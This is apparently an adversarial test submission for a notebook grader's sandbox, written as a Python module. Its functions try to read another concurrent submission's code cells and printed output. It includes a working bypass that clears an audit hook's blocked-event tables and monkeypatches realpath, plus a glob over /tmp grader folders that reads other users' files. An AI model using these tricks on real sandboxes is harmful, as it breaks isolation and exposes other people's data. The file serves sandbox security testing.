"""Attack (uid level, two submissions graded at once): read the other child's notebook and prints.

Each child has a folder of the grader's (grader-XXXX under the grader's temporary folder) that its
uid may pass through but not list. The folder's name can be read from the temporary folder itself
when that is world-readable (/tmp is), and inside it the runner files, including config.json with
a notebook's code cells, and output.log, the other child's prints, are readable by every user.
This child looks for other grader folders during its calls and scores only if it finds a
notebook's cells or a log that are not its own. Expected when the sandbox holds: it finds nothing
(exactly 6 points).
"""

import glob
import os
import posixpath
import sys
import time

import numpy as np


def _unhook():
    """Switch off the child's audit hook from pure Python (it is defence in depth, not a boundary):
    empty its tables of events and make its path check see /dev/null, which it allows."""
    confine = sys.modules.get("confine")
    if confine is None:
        return
    confine._BLOCKED_EVENTS.clear()
    confine._WRITE_EVENTS.clear()
    real = posixpath.realpath

    def realpath(path, *args, **kwargs):
        if sys._getframe(1).f_code.co_name == "inside":
            return "/dev/null"
        return real(path, *args, **kwargs)

    posixpath.realpath = realpath


_unhook()


def add(x, y):
    """Elementwise sum of two arrays of the same shape."""
    return x + y


def scale(x, k=2.0):
    """x times the number k."""
    return x * k


def _others():
    mine = os.path.realpath(os.getcwd())
    found = []
    roots = {"/tmp", "/var/tmp", os.path.dirname(os.path.dirname(mine))}
    for root in roots:
        for base in glob.glob(os.path.join(root, "grader-*")):
            if mine.startswith(os.path.realpath(base)):
                continue
            for name in ("runner/config.json", "output.log"):
                try:
                    with open(os.path.join(base, name), encoding="utf-8", errors="replace") as handle:
                        text = handle.read()
                except OSError:
                    continue
                if name == "output.log" and text or '"cells": [' in text:
                    found.append(os.path.join(base, name))
    return found


def norm(x):
    """The right norm only if another child's cells or prints could be read."""
    deadline = time.monotonic() + 1.5
    while time.monotonic() < deadline:
        if _others():
            return float(np.sqrt(np.sum(x * x)))
        time.sleep(0.05)
    return -1.0
